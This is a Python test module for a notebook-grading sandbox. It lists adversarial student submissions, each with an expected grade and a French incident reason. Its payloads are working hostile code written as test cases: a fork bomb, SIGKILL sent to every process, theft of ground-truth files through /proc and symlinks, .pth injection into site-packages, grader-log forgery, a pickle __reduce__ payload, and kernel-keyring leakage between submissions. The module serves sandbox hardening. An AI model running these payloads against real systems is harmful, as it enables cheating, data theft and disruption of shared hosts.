"""The adversarial corpus: hostile or broken submissions, each with its expected grade and French reason.

Each :class:`Case` builds one submission folder from the cohort's reference
solution (``source``) or student release (``release``) of an assignment,
edited by its ``make`` function (a few lines of notebook code, or raw bytes
for the broken files). ``expected`` is the total of the auto checks the
submission must get; ``reason`` a French phrase that must appear in what the
jury sees of it (incidents, check evidence or execution log). Most cases use
the small ``a4_pilotage`` assignment (:data:`A4_FULL` auto points, all
scored by the reference; the release scores 0) so that the whole corpus runs in a few minutes.

``Context`` carries what an attacker is assumed to know: the absolute paths
of the workspace and its secrets, and a port on which the grading host
listens.
"""

from __future__ import annotations

from mspr.grading.checks import checks_for

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat



#: Auto points of the reference a4_pilotage submission (every check of the assignment).
A4_FULL = sum(c.max_score for c in checks_for("a4_pilotage"))
#: Points of the PERT table check (its answer is recorded before the critical path's).
PERT_POINTS = next(c.max_score for c in checks_for("a4_pilotage") if c.check_id == "A4C1.pert_table")
#: Auto points of the a1_cadrage assignment, and those of its register of processing activities.
A1_FULL = sum(c.max_score for c in checks_for("a1_cadrage"))
REGISTER_POINTS = next(c.max_score for c in checks_for("a1_cadrage") if c.check_id == "A1C6.registre")
#: Folders nested in the deep-tree case (past Python's recursion limit for copytree, rmtree, os.walk, rglob).
DEEP_LEVELS = 1500

@dataclass(frozen=True)
class Context:
    """What a hostile notebook is given (generously) to aim at."""

    ws_root: Path
    host_port: int
    venv: Path
    package: Path

    @property
    def secrets(self) -> list[str]:
        root = self.ws_root
        return [str(root / "case" / "ground_truth" / "ground_truth.json"),
                str(root / "case" / "ground_truth" / "holdout_labels.csv"),
                str(root / "grader" / "gradebook.db"),
                str(root / "submitted" / "adv-bystander" / "a4_pilotage" / "a4_pilotage.ipynb"),
                str(root / "grades" / "adv-bystander" / "a4_pilotage.json")]


@dataclass(frozen=True)
class Case:
    """One adversarial submission.

    Attributes
    ----------
    name : str
        Also the team id, prefixed with ``adv-``.
    assignment : str
    base : {"source", "release"}
        Folder the submission starts from.
    make : callable
        ``make(folder, notebook_node, ctx)`` edits the copy; returns the
        notebook to write, or None when it wrote the ``.ipynb`` itself.
    expected : float
        Total auto score expected.
    reason : str
        French phrase expected in the incidents, the check evidence or the log.
    what : str
        What the case tries, in one line.
    extra : dict
        Options of the test: ``in_order`` (True) grades the case alone, after
        the in-order cases listed before it, in the test's own process (so in
        the same grading slot, under the same uid).
    """

    name: str
    assignment: str
    base: str
    make: Callable
    expected: float
    reason: str
    what: str
    extra: dict = field(default_factory=dict)

    @property
    def team(self) -> str:
        return f"adv-{self.name}"


def _append(code: str):
    def make(folder, nb, ctx):
        nb.cells.append(nbformat.v4.new_code_cell(code.replace("@CTX@", repr(ctx_dict(ctx)))))
        return nb
    return make


def _insert_before_answers(code: str):
    """Insert a cell just before the locked ``reponses`` cell of a4 (answers not recorded yet)."""
    def make(folder, nb, ctx):
        index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "reponses")
        nb.cells.insert(index, nbformat.v4.new_code_cell(code.replace("@CTX@", repr(ctx_dict(ctx)))))
        return nb
    return make


def ctx_dict(ctx: Context) -> dict:
    return {"ws": str(ctx.ws_root), "secrets": ctx.secrets, "port": ctx.host_port, "venv": str(ctx.venv),
            "package": str(ctx.package)}


# Set-up of the cheats: what they are told, then where they look (CANDIDATES).
HEAD = r'''
import json, os
from pathlib import Path
from mspr.answers import record
CTX = @CTX@
'''

# A cheat: record the ground truth's answers if it can read them, a wrong answer otherwise.
CHEAT = r'''
found = []
def attempt(path):
    try:
        text = Path(path).read_text(errors="replace")
    except Exception:
        return None
    found.append(str(path))
    try:
        return json.loads(text)
    except Exception:
        return None
gt = None
for path in CANDIDATES:
    gt = attempt(path) or gt
if isinstance(gt, dict) and "plan" in gt:
    record("A4C1.critical_path", gt["plan"]["critical_paths"][0])
    record("A4C1.project_duration", gt["plan"]["duration_days"])
else:
    record("A4C1.critical_path", ["T99"])
    record("A4C1.project_duration", 1)
Path("fouille.json").write_text(json.dumps({"found": found}))
'''

ABSOLUTE = "CANDIDATES = CTX['secrets']\n"
PROC = r'''
CANDIDATES = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for link in ("cwd", "root"):
            base = f"/proc/{pid}/{link}"
            CANDIDATES += [base + "/case/ground_truth/ground_truth.json", base + "/../../case/ground_truth/ground_truth.json"]
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            CANDIDATES += [c.decode() for c in cmd if c.startswith(b"/")]
        except Exception:
            pass
ppid = os.getppid()
CANDIDATES += [f"/proc/{ppid}/cwd/ground_truth.json", f"/proc/{ppid}/cwd/../../../case/ground_truth/ground_truth.json"]
'''
MSPR_PATHS = r'''
import mspr.paths as mp
CANDIDATES = []
for root in {mp.REPO_ROOT, Path(mp.__file__).resolve().parents[1]}:
    for base, _, files in os.walk(root):
        CANDIDATES += [os.path.join(base, f) for f in files if f in ("ground_truth.json", "gradebook.db", "holdout_labels.csv")]
CANDIDATES += [str(mp.REPO_ROOT / "build" / "demo" / "case" / "ground_truth" / "ground_truth.json"),
               str(mp.REPO_ROOT / "build" / "cohorte" / "case" / "ground_truth" / "ground_truth.json")]
'''
SYMLINK = r'''
CANDIDATES = []
for i, secret in enumerate(CTX["secrets"]):
    os.symlink(secret, f"lien_{i}.json")
    CANDIDATES.append(f"lien_{i}.json")
'''

WRITE_OUTSIDE = r'''
import json, os, sys
from pathlib import Path
CTX = @CTX@
results = {}
targets = [CTX["ws"] + "/grades/adv-bystander/a4_pilotage.json", CTX["ws"] + "/case/ground_truth/pirate.txt",
           CTX["ws"] + "/report/pirate.html", CTX["ws"] + "/grader/pirate.txt",
           CTX["ws"] + "/submitted/adv-bystander/a4_pilotage/pirate.txt",
           CTX["venv"] + "/lib/python3.11/site-packages/pirate.pth", CTX["package"] + "/pirate.py"]
for target in targets:
    try:
        Path(target).write_text('{"pirate": true}')
        results[target] = "écrit"
    except Exception as exc:
        results[target] = type(exc).__name__
Path("ecritures.json").write_text(json.dumps(results))
open(CTX["venv"] + "/lib/python3.11/site-packages/pirate2.pth", "w")
'''

NETWORK = r'''
import json, socket
from pathlib import Path
CTX = @CTX@
results = {}
for name, target in {"hote": ("127.0.0.1", CTX["port"]), "exterieur": ("1.1.1.1", 80)}.items():
    try:
        socket.create_connection(target, timeout=3).close()
        results[name] = "connecté"
    except OSError as exc:
        results[name] = str(exc)
try:
    socket.getaddrinfo("example.com", 80)
    results["dns"] = "résolu"
except OSError as exc:
    results["dns"] = str(exc)
Path("reseau.json").write_text(json.dumps(results))
socket.create_connection(("1.1.1.1", 80), timeout=3)
'''

#: Rewrites the execution worker's log, where the grader reads the worker's result line, if the kernel holds it.
FORGE_LOG = r'''
import os, json, subprocess
subprocess.Popen(["sleep", "300"], start_new_session=True)
forged = json.dumps({"success": True, "log": "JOURNAL FALSIFIE", "error": "", "leftovers": {}, "incidents": []})
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if target.endswith("worker.log"):
        os.lseek(int(fd), 5_000_000, 0)
        os.write(int(fd), b"\n" + forged.encode() + b"\n")
'''

KILL_GRADER = r'''
import os, signal, json
from pathlib import Path
killed = []
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
            killed.append(int(pid))
        except OSError:
            pass
Path("tues.json").write_text(json.dumps(killed))
'''

PID_CHANGER = r'''
import subprocess, sys
code = """
import os, sys, time, json
from pathlib import Path
target = sys.argv[1]
for i in range(10000):
    if os.fork():
        os._exit(0)
    os.setsid()
    try:
        Path(target).write_text(json.dumps({"A4C1.critical_path": ["T01"], "A4C1.project_duration": 1}))
    except Exception:
        pass
    time.sleep(0.05)
"""
CTX = @CTX@
subprocess.Popen([sys.executable, "-c", code, CTX["ws"] + "/../adv-bystander-reponses.json"], start_new_session=True)
'''


# The kernel keeps one user keyring per uid, and a grading slot's uid serves every submission it grades: a
# writer leaves its answers there, a reader graded after it in the same slot takes them (syscalls by number,
# x86_64: add_key 248, keyctl 250; KEY_SPEC_USER_KEYRING -4, KEY_SPEC_SESSION_KEYRING -3, user session -5).
KEYRING_HEAD = r'''
import ctypes, json, os
from pathlib import Path
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
Path("uid.json").write_text(json.dumps({"uid": os.getuid()}))
'''
KEYRING_WRITE = KEYRING_HEAD + r'''
answers = {k: v for k, v in json.loads(Path("reponses.json").read_text()).items() if len(json.dumps(v)) < 2000}
data = json.dumps(answers).encode()
errors = []
for ring in (-4, -3):
    if libc.syscall(248, b"user", b"mspr-reponses-adv", data, len(data), ctypes.c_long(ring)) < 0:
        errors.append(ctypes.get_errno())
if len(errors) == 2:
    raise OSError(errors[0], "add_key : " + os.strerror(errors[0]))
'''
KEYRING_READ = KEYRING_HEAD + r'''
from mspr.answers import record
found, errors = {}, []
for ring in (-4, -3, -5):
    key = libc.syscall(250, 10, ctypes.c_long(ring), b"user", b"mspr-reponses-adv", 0)  # KEYCTL_SEARCH
    if key < 0:
        errors.append(ctypes.get_errno())
        continue
    buffer = ctypes.create_string_buffer(1 << 16)
    size = libc.syscall(250, 11, ctypes.c_long(key), buffer, 1 << 16)  # KEYCTL_READ
    if size > 0:
        found = json.loads(buffer.raw[:size])
        break
if found:
    for check_id, value in found.items():
        record(check_id, value)
else:
    record("A4C1.critical_path", ["T99"])
    record("A4C1.project_duration", 1)
Path("trousseau.json").write_text(json.dumps({"trouve": bool(found), "erreurs": errors}))
'''


def _deep_tree(folder, nb, ctx):
    """A folder DEEP_LEVELS levels deep next to the notebook, a file in each of its first 70 levels and one at the
    bottom (made without recursion: os.makedirs recurses)."""
    import os

    path = str(folder / "profond")
    os.mkdir(path)
    for level in range(DEEP_LEVELS):
        if level < 70:
            with open(os.path.join(path, "niveau.txt"), "w") as handle:
                handle.write(f"niveau {level + 1}\n")
        path = os.path.join(path, "d")
        os.mkdir(path)
    with open(os.path.join(path, "fond.txt"), "w") as handle:
        handle.write("le fond\n")
    return nb


def _outside_answers(folder, nb, ctx):
    """Answers kept outside the team's folder (another team's, say); the notebook links reponses.json to them."""
    truth = json.loads((ctx.ws_root / "case" / "ground_truth" / "ground_truth.json").read_text(encoding="utf-8"))
    elsewhere = folder.parent / "reponses_autre_equipe.json"
    elsewhere.write_text(json.dumps({"A4C1.critical_path": truth["plan"]["critical_paths"][0],
                                     "A4C1.project_duration": truth["plan"]["duration_days"]}), encoding="utf-8")
    nb.cells.append(nbformat.v4.new_code_cell(
        f"import os\nos.remove('reponses.json')\nos.symlink({str(elsewhere)!r}, 'reponses.json')"))
    return nb


#: Host files a notebook aims at through links, left beside the cohort (mode 0600, this content).
CANARIES = {"canari_chmod.txt": "canari : droits 0600", "canari_notebook.txt": "canari : contenu d'origine"}


def _links_to_host_files(folder, nb, ctx):
    """Links the trusted grader (root) would follow after the run: a file of the folder linked to a host file
    (nbgrader chmods every file), and the notebook itself replaced by a link (nbgrader writes it back)."""
    for name, text in CANARIES.items():
        target = ctx.ws_root.parent / name
        target.write_text(text, encoding="utf-8")
        target.chmod(0o600)
    chmod, notebook = (str(ctx.ws_root.parent / name) for name in CANARIES)
    nb.cells.append(nbformat.v4.new_code_cell(
        f"import os\nos.symlink({chmod!r}, 'canari.txt')\n"
        f"os.remove('a4_pilotage.ipynb')\nos.symlink({notebook!r}, 'a4_pilotage.ipynb')"))
    return nb


def _a1_register_elsewhere(folder, nb, ctx):
    """A complete register outside the team's folder (another team's, say); the notebook links its own to it."""
    import yaml

    truth = json.loads((ctx.ws_root / "case" / "ground_truth" / "ground_truth.json").read_text(encoding="utf-8"))
    entities = sorted({e for columns in truth["pii"].values() for found in columns.values() for e in found})
    register = {"traitements": [{
        "finalite": "Prédire la résiliation", "base_legale": "intérêt légitime (art. 6.1.f)",
        "categories_donnees": entities, "categories_personnes": ["adhérents"], "destinataires": ["équipe projet"],
        "duree_conservation": "12 mois", "mesures_securite": ["pseudonymisation"]}]}
    elsewhere = folder.parent / "registre_autre_equipe.yaml"
    elsewhere.write_text(yaml.safe_dump(register, allow_unicode=True), encoding="utf-8")
    nb.cells.append(nbformat.v4.new_code_cell(
        "import os\nfrom pathlib import Path\nregistre = Path('livrables_a1') / 'registre_traitements.yaml'\n"
        f"registre.unlink()\nos.symlink({str(elsewhere)!r}, registre)"))
    return nb


def _raw(text: bytes):
    def make(folder, nb, ctx):
        (folder / f"{folder.name}.ipynb").write_bytes(text)
        return None
    return make


def _truncated(folder, nb, ctx):
    data = nbformat.writes(nb).encode()
    (folder / f"{folder.name}.ipynb").write_bytes(data[: len(data) // 2])
    return None


def _non_utf8(folder, nb, ctx):
    nb.cells.append(nbformat.v4.new_code_cell("texte = 'café'"))
    data = nbformat.writes(nb).encode("utf-8").replace("café".encode("utf-8"), "café".encode("latin-1"))
    (folder / f"{folder.name}.ipynb").write_bytes(data)
    return None


def _empty(folder, nb, ctx):
    nb.cells = []
    return nb


def _minor(folder, nb, ctx):
    nb.nbformat_minor = 4
    for cell in nb.cells:
        cell.pop("id", None)
    return nb


def _kernel_name(folder, nb, ctx):
    nb.metadata["kernelspec"] = {"name": "noyau-pirate", "display_name": "Pirate", "language": "python"}
    return nb


def _edit_locked(folder, nb, ctx):
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "reponses")
    cell.source = 'record("A4C1.critical_path", ["T99"])\nrecord("A4C1.project_duration", 1)'
    return nb


def _delete_grade_cell(folder, nb, ctx):
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    return nb


def _duplicate_grade_cell(folder, nb, ctx):
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade"))
    copy = nbformat.from_dict(json.loads(json.dumps(cell)))
    copy["id"] = "copie-pirate"
    nb.cells.append(copy)
    return nb


def _cell_type(folder, nb, ctx):
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "reponses")
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)
    return nb


A2_MODEL = r'''
import mlflow, numpy as np, pandas as pd, json
from pathlib import Path
from sklearn.base import BaseEstimator, ClassifierMixin
from mspr.answers import record
CTX = @CTX@

class Lookup(BaseEstimator, ClassifierMixin):
    """Looks the holdout labels up by id when it can read them; 0.5 everywhere otherwise."""
    def __init__(self, labels_path=""):
        self.labels_path = labels_path
    def fit(self, X, y):
        self.classes_ = np.array([0, 1])
        return self
    def predict_proba(self, X):
        p = np.full(len(X), 0.5)
        try:
            labels = pd.read_csv(self.labels_path)
            truth = dict(zip(labels.iloc[:, 0], labels.iloc[:, 1]))
            p = np.array([float(truth.get(i, 0.5)) for i in X["id_adherent"]])
        except Exception:
            pass
        return np.column_stack([1 - p, p])
    def predict(self, X):
        return (self.predict_proba(X)[:, 1] > 0.5).astype(int)
    @PAYLOAD@

uri = "sqlite:///" + str(Path.cwd() / "mlflow.db")
mlflow.set_tracking_uri(uri)
X = pd.DataFrame({"id_adherent": ["a", "b"]}); y = [0, 1]
with mlflow.start_run() as run:
    info = mlflow.sklearn.log_model(Lookup(CTX["secrets"][1]).fit(X, y), name="model",
                                    serialization_format="cloudpickle")
record("A2C6.model", {"tracking_uri": @URI@, "model_uri": info.model_uri, "run_id": run.info.run_id})
'''

REDUCE = '''def __reduce__(self):
        import os
        return (_pwn, (CTX["ws"],))
'''
PWN = r'''
def _pwn(ws):
    import os, pathlib
    for target in (ws + "/grades/pirate.txt", ws + "/case/ground_truth/pirate.txt"):
        try:
            pathlib.Path(target).write_text("pirate")
        except Exception:
            pass
    return Lookup("")
'''


def _a2(payload: str = "pass", uri: str = "uri", pre: str = ""):
    code = pre + A2_MODEL.replace("@PAYLOAD@", payload).replace("@URI@", uri)
    return _append(code)


CASES = [
    # -- resource limits -----------------------------------------------------------
    Case("boucle-infinie", "a4_pilotage", "source", _append("while True:\n    pass"), A4_FULL,
         "cellule interrompue", "while True: pass en dernière cellule : le délai par cellule l'interrompt"),
    Case("boucle-obstinee", "a4_pilotage", "source",
         _append("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"), A4_FULL,
         "malgré l'interruption", "boucle qui ignore l'interruption : le noyau est arrêté"),
    Case("bombe-memoire", "a4_pilotage", "source", _append("blocs = [bytearray(2**28) for _ in range(64)]"), A4_FULL,
         "limite de mémoire", "alloue 16 Gio"),
    Case("bombe-fork", "a4_pilotage", "source",
         _append("import subprocess, time\nsubprocess.Popen(['sh', '-c', 'f() { f | f & }; f'])\ntime.sleep(3)\n"
                 "for _ in range(400):\n    subprocess.Popen(['sleep', '60'])"), A4_FULL,
         "laissé(s) en marche", "bombe fork en shell, puis des processus en boucle"),
    Case("sortie-enorme", "a4_pilotage", "source", _append("print('x' * 20_000_000)"), A4_FULL,
         "tronquée", "imprime 20 Mo"),
    Case("artefact-200-mo", "a4_pilotage", "source",
         _append("with open('gros.bin', 'wb') as fh:\n    for _ in range(200):\n        fh.write(b'0' * 2**20)"), A4_FULL,
         "limite de taille de fichier", "écrit un fichier de 200 Mo"),
    Case("fichier-creux", "a4_pilotage", "source",
         _append("with open('creux.bin', 'wb') as fh:\n    fh.seek(2**30)\n    fh.write(b'1')"), A4_FULL,
         "limite de taille de fichier", "fichier creux de 1 Gio"),
    # -- ending the kernel ---------------------------------------------------------
    Case("sys-exit", "a4_pilotage", "source", _append("import sys\nsys.exit(3)"), A4_FULL,
         "sys.exit", "sys.exit en dernière cellule"),
    Case("os-exit-fin", "a4_pilotage", "source", _append("import os\nos._exit(0)"), A4_FULL,
         "code de sortie 0", "os._exit(0) après toutes les réponses"),
    # The PERT table file and its recording cell come before the path and duration answers: they count.
    Case("noyau-tue", "a4_pilotage", "source", _insert_before_answers("import os, signal\nos.kill(os.getpid(), 9)"),
         PERT_POINTS, "signal 9", "le noyau se tue avant d'enregistrer le chemin critique et la durée"),
    Case("code-de-sortie-200", "a4_pilotage", "source", _append("import os\nos._exit(200)"), A4_FULL,
         "code de sortie 200", "os._exit(200) en dernière cellule : un code au-delà de 128 n'est pas un signal"),
    Case("journal-falsifie", "a4_pilotage", "source", _append(FORGE_LOG), A4_FULL, "laissé(s) en marche",
         "réécrit le journal du correcteur, s'il le tient ouvert, pour effacer ses incidents"),
    Case("tue-le-correcteur", "a4_pilotage", "source", _append(KILL_GRADER), A4_FULL,
         "processus et fichiers privés", "SIGKILL à tous les processus visibles (dont le correcteur, s'il le voyait)"),
    Case("processus-restant", "a4_pilotage", "source",
         _append("import subprocess\nsubprocess.Popen(['sleep', '300'], start_new_session=True)"), A4_FULL,
         "laissé(s) en marche", "laisse un processus détaché"),
    Case("change-de-pid", "a4_pilotage", "source", _append(PID_CHANGER), A4_FULL,
         "laissé(s) en marche", "un enfant qui change de pid sans cesse et vise les réponses d'une autre équipe"),
    # -- reading what it must not see ----------------------------------------------
    Case("lit-chemin-absolu", "a4_pilotage", "release", _append(HEAD + ABSOLUTE + CHEAT), 0, "attendu 100 j",
         "lit vérité terrain, étiquettes, gradebook et autre équipe par chemin absolu"),
    Case("lit-par-proc", "a4_pilotage", "release", _append(HEAD + PROC + CHEAT), 0, "attendu 100 j",
         "cherche l'espace de travail par /proc (cwd et cmdline des autres processus, du parent)"),
    Case("lit-par-mspr-paths", "a4_pilotage", "release", _append(HEAD + MSPR_PATHS + CHEAT), 0, "attendu 100 j",
         "parcourt mspr.paths.REPO_ROOT"),
    Case("honnete-et-fouineur", "a4_pilotage", "source",
         _append(HEAD + ABSOLUTE + "ALL = list(CANDIDATES)\n" + PROC + "ALL += CANDIDATES\n" + MSPR_PATHS
                 + "CANDIDATES += ALL\n" + CHEAT.replace('record("A4C1.critical_path", ["T99"])', "pass")
                 .replace('record("A4C1.project_duration", 1)', "pass")), A4_FULL, "exact",
         "réponses justes, et cherche en plus la vérité terrain par les trois routes : ne trouve rien, garde 3/3"),
    Case("lien-symbolique", "a4_pilotage", "release", _append(HEAD + SYMLINK + CHEAT), 0, "attendu 100 j",
         "lien symbolique vers la vérité terrain"),
    Case("reseau", "a4_pilotage", "source", _append(NETWORK), A4_FULL, "accès réseau bloqué",
         "se connecte à un port de l'hôte, à l'extérieur, et résout un nom"),
    Case("ecrit-dehors", "a4_pilotage", "source", _append(WRITE_OUTSIDE), A4_FULL, "lecture seule",
         "écrit dans les notes, la vérité terrain, le rapport, le gradebook, l'environnement et le paquet"),
    # -- tampering with the notebook -----------------------------------------------
    Case("cellule-verrouillee", "a4_pilotage", "source", _edit_locked, A4_FULL, "rétablie",
         "réécrit la cellule verrouillée qui enregistre les réponses"),
    Case("cellule-notee-supprimee", "a4_pilotage", "source", _delete_grade_cell, A4_FULL, "supprimée",
         "supprime la cellule notée par le jury"),
    Case("cellule-notee-dupliquee", "a4_pilotage", "source", _duplicate_grade_cell, 0, "en double",
         "duplique une cellule notée"),
    Case("type-de-cellule", "a4_pilotage", "source", _cell_type, A4_FULL, "rétablie",
         "change la cellule des réponses en markdown"),
    Case("nom-du-noyau", "a4_pilotage", "source", _kernel_name, A4_FULL, "noyau",
         "déclare un autre noyau"),
    Case("ipynb-invalide", "a4_pilotage", "source", _raw(b"ceci n'est pas un notebook"), 0, "pas du JSON valide",
         "fichier qui n'est pas du JSON"),
    Case("ipynb-tronque", "a4_pilotage", "source", _truncated, 0, "pas du JSON valide", "notebook coupé en deux"),
    Case("notebook-vide", "a4_pilotage", "source", _empty, 0, "aucune réponse enregistrée", "aucune cellule"),
    Case("nbformat-4-4", "a4_pilotage", "source", _minor, A4_FULL, "exact", "autre version mineure de nbformat"),
    Case("non-utf8", "a4_pilotage", "source", _non_utf8, 0, "notebook", "octets latin-1 dans le JSON"),
    # -- the model ------------------------------------------------------------------
    Case("modele-lit-etiquettes", "a2_conception", "release", _a2(), 0, "AUC",
         "le modèle cherche les étiquettes du jeu caché pendant qu'on le note"),
    Case("modele-code-au-chargement", "a2_conception", "release", _a2(payload=REDUCE, pre=PWN), 0, "AUC",
         "le modèle exécute du code à son chargement (pickle) et écrit dans l'espace de travail"),
    Case("mlflow-ailleurs", "a2_conception", "release",
         _a2(uri='"sqlite:///" + CTX["ws"] + "/grader/gradebook.db"'), 0, "dossier",
         "déclare un magasin MLflow hors de son dossier (le gradebook)"),
    # -- the grader's own walks and reads ------------------------------------------------
    Case("arborescence-profonde", "a4_pilotage", "source", _deep_tree, A4_FULL, "arborescence trop profonde",
         f"{DEEP_LEVELS} dossiers imbriqués dans le rendu (copie, empreinte et suppression récursives du "
         "correcteur), réponses justes"),
    Case("arborescence-creee", "a4_pilotage", "source",
         _append("import os\np = 'profond'\nos.mkdir(p)\nfor _ in range(%d):\n    p = os.path.join(p, 'd')\n"
                 "    os.mkdir(p)" % DEEP_LEVELS), A4_FULL, "créée par le notebook",
         f"crée {DEEP_LEVELS} dossiers imbriqués pendant l'exécution (nbgrader les parcourt ensuite), réponses justes"),
    Case("reponses-lien", "a4_pilotage", "release", _outside_answers, 0, "lien symbolique hors du dossier du rendu",
         "remplace reponses.json par un lien vers les réponses d'une autre équipe, que le correcteur lirait"),
    Case("liens-hote", "a4_pilotage", "source", _links_to_host_files, A4_FULL,
         "le notebook s'était remplacé par un lien symbolique",
         "laisse des liens vers des fichiers de l'hôte, dont son propre notebook, que nbgrader (root) suivrait "
         "pour écrire le notebook exécuté et en changer les droits"),
    Case("a1-registre-lien", "a1_cadrage", "source", _a1_register_elsewhere, A1_FULL - REGISTER_POINTS,
         "lien symbolique hors du dossier du rendu",
         "audit juste, mais le registre des traitements est un lien vers celui d'une autre équipe"),
    # -- what outlives a submission in its slot (graded in order, one after the other, same uid) ----------
    Case("trousseau-ecrit", "a4_pilotage", "source", _append(KEYRING_WRITE), A4_FULL, "accès refusé par le bac à sable",
         "range ses réponses dans le trousseau de clés du noyau de son uid (add_key)", extra={"in_order": True}),
    Case("trousseau-lit", "a4_pilotage", "release", _append(KEYRING_READ), 0, "attendu 100 j",
         "corrigée après la précédente sous le même uid, y lit ses réponses (keyctl) et les enregistre",
         extra={"in_order": True}),
]
